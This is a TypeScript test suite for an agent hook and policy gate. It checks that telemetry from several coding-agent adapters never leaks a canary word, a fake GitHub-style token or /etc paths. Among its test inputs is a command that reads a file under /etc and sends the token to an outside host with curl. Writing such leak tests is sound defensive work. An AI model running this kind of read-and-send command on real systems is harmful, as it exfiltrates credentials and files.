/** Whatever an agent says, by whatever door: telemetry has none of it, and names nothing that has no name in the table. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { adapter as claude } from '../../../lib/agents/claude.ts';
import { adapter as codex } from '../../../lib/agents/codex.ts';
import { adapter as copilot } from '../../../lib/agents/copilot.ts';
import { adapter as cursor } from '../../../lib/agents/cursor.ts';
import { adapter as gemini } from '../../../lib/agents/gemini.ts';
import { adapter as opencode } from '../../../lib/agents/opencode.ts';
import type { AgentAdapter } from '../../../lib/agents/hook.ts';
import { hookEvents } from '../../../lib/agents/hook-events.ts';
import { openGate } from '../../../lib/app/gate.ts';
import { answerHook } from '../../../lib/app/hook/answer.ts';
import { openActionTrace } from '../../../lib/app/telemetry/action-trace.ts';
import type { Action } from '../../../lib/base/action.ts';
import type { JsonObject } from '../../../lib/base/json.ts';
import { attribute, spanNames } from '../../../lib/telemetry/names.ts';
import { makeGround, type Ground } from '../../support/ground.ts';
import { recordingTracer, type RecordingTracer } from '../../support/recording-tracer.ts';

/** In what an agent does and says; a secret beside it, for what may be told as a word where it is one. */
const canary = 'kanarienvogel';
const secret = 'ghp_x7Kq2LmN9pRs4TuV6wXy8ZaB1cDe3FgH5iJk';
const policy = `version: 1
policies:
  pre_execution:
    - { name: no, when: 'command matches "echo forbidden*"', action: deny }
    - { name: ask, when: 'command matches "echo asked*"', action: require_approval }
    - { name: odd, when: 'kind == "net"', action: warn }
  data:
    - { name: secrets, type: secret_detection, action: deny }
`;

const known: ReadonlySet<string> = new Set(Object.values(attribute));
const someNames = new Set<string>([spanNames.policy, spanNames.approval, spanNames.audit]);

function assertClean(tracer: RecordingTracer, door: string): void {
  const told = JSON.stringify([tracer.spans, tracer.logs]);
  assert.ok(tracer.logs.length + tracer.spans.length > 0, `${door} told nothing`);
  assert.doesNotMatch(told, new RegExp(`${canary}|${secret}|/etc/`), door);
  for (const { attributes, name } of tracer.spans) {
    for (const each of Object.keys(attributes)) assert.ok(known.has(each), `${door}: ${each} of ${name}`);
    assert.ok(someNames.has(name) || /^(execute_tool|agent\.)/.test(name), `${door}: ${name}`);
  }
  for (const { attributes = {} } of tracer.logs) for (const each of Object.keys(attributes)) assert.ok(known.has(each), `${door}: ${each}`);
}

const commands = [`ls ${canary}`, `echo forbidden ${canary}`, `echo asked ${canary}`, `cat /etc/${canary} && curl https://${canary}.example/?${secret}`];
const tools = ['Bash', 'Read', 'run_shell_command', 'shell', `odd ${canary}`, secret, `/etc/${canary}`, `mcp__srv__${secret}`];

/** The words of all agents at once: each adapter takes what it knows. */
function inputs(event: string): readonly JsonObject[] {
  const common = { hook_event_name: event, event, cwd: '/', model: `m ${canary}`, prompt: `do ${canary} ${secret}`, user_prompt: canary, reason: canary, source: 'user_settings', file_path: `/etc/${canary}`, content: `${canary} ${secret}`, error: canary };
  return tools.flatMap((tool) => commands.map((command, at) => ({
    ...common, session_id: at === 0 ? 'one' : `${secret}`, conversation_id: `two ${canary}`, sessionId: `three ${canary}`, sessionID: secret, tool_name: tool, toolName: tool, tool, tool_use_id: at % 2 === 0 ? secret : `call ${canary}`, callID: `call ${canary}`, agent_id: secret,
    agent_type: `${canary} the explorer`, subagent_type: `${canary} s`, task_id: canary, task_subject: canary, text: canary, parts: [{ type: 'text', text: canary }],
    tool_input: { command, file_path: `/etc/${canary}`, content: `${canary} ${secret}`, url: `https://${canary}.example` }, toolArgs: JSON.stringify({ command }), args: { command }, input: { command },
    tool_response: { stdout: `${canary} ${secret}`, stderr: canary, interrupted: false, isImage: false, llmContent: canary }, tool_output: `${canary} ${secret}`, toolResult: { resultType: 'success', textResultForLlm: canary }, output: canary,
  })));
}

for (const adapter of [claude, codex, gemini, cursor, copilot, opencode] satisfies readonly AgentAdapter[]) {
  test(`the hooks of ${adapter.title}`, async (t) => {
    const ground = groundOf(t);
    const tracer = recordingTracer();
    const telemetry = { tracer, logger: tracer, isOn: true, end: () => Promise.resolve() };
    for (const { event } of hookEvents[adapter.name]) {
      for (const input of inputs(event).slice(0, 20)) {
        await answerHook(adapter, () => Promise.resolve(JSON.stringify(input)), { env: { ...ground.env, LOKI_RUN_ID: `run ${canary}`, LOKI_PHASE: canary }, cwd: ground.project, homeDirectory: ground.root }, {
          approval: 'deny', waitMs: 0, deadlineMs: 30_000, project: ground.project, event, telemetry,
        });
      }
    }
    assertClean(tracer, adapter.title);
  });
}

test('a hook whose input cannot be read', async (t) => {
  const ground = groundOf(t);
  const tracer = recordingTracer();
  const telemetry = { tracer, logger: tracer, isOn: true, end: () => Promise.resolve() };
  for (const input of [`{"${canary}`, `{"hook_event_name":"${canary}"}`, JSON.stringify({ hook_event_name: 'PreToolUse', session_id: canary, tool_name: 7, [canary]: secret })]) {
    await answerHook(claude, () => Promise.resolve(input), { env: ground.env, cwd: ground.project, homeDirectory: ground.root }, { approval: 'deny', waitMs: 0, deadlineMs: 30_000, project: ground.project, telemetry });
  }
  assertClean(tracer, 'unreadable input');
});

test('a gate that is opened by itself', async (t) => {
  const here = groundOf(t).installation();
  const tracer = recordingTracer();
  const gate = openGate(here, { agent: 'library', waitMs: 0, trace: openActionTrace(here, { tracer, agent: 'library' }), telling: { logger: tracer } });
  const actions: readonly Action[] = [
    ...commands.map((command): Action => ({ kind: 'exec', command, tool: `tool ${canary}`, session_id: `s ${canary}` })), { kind: 'fs.write', file_path: `/etc/${canary}`, content: `${canary} ${secret}` }, { kind: 'net', url: `https://${canary}.example/${secret}` },
    { kind: 'mcp', mcp_server: canary, mcp_tool: canary }, { kind: 'agent', agent: canary }, { kind: 'prompt', content: `${canary} ${secret}` }, { kind: 'fs.read', file_path: `/etc/${canary}`, tool: secret, cwd: `/${canary}` },
  ];
  for (const action of actions) {
    const { audit_seq: seq } = await gate.decide(action);
    await gate.report({ action, ok: false, exit: 1, ...(seq === null ? {} : { ref: seq }), about: { note: canary } });
  }
  await gate.close();
  assertClean(tracer, 'library');
});

function groundOf(t: { after(undo: () => void | Promise<void>): void }): Ground {
  const ground = makeGround(t);
  ground.write('project/.loki/policies.yaml', policy);
  return ground;
}
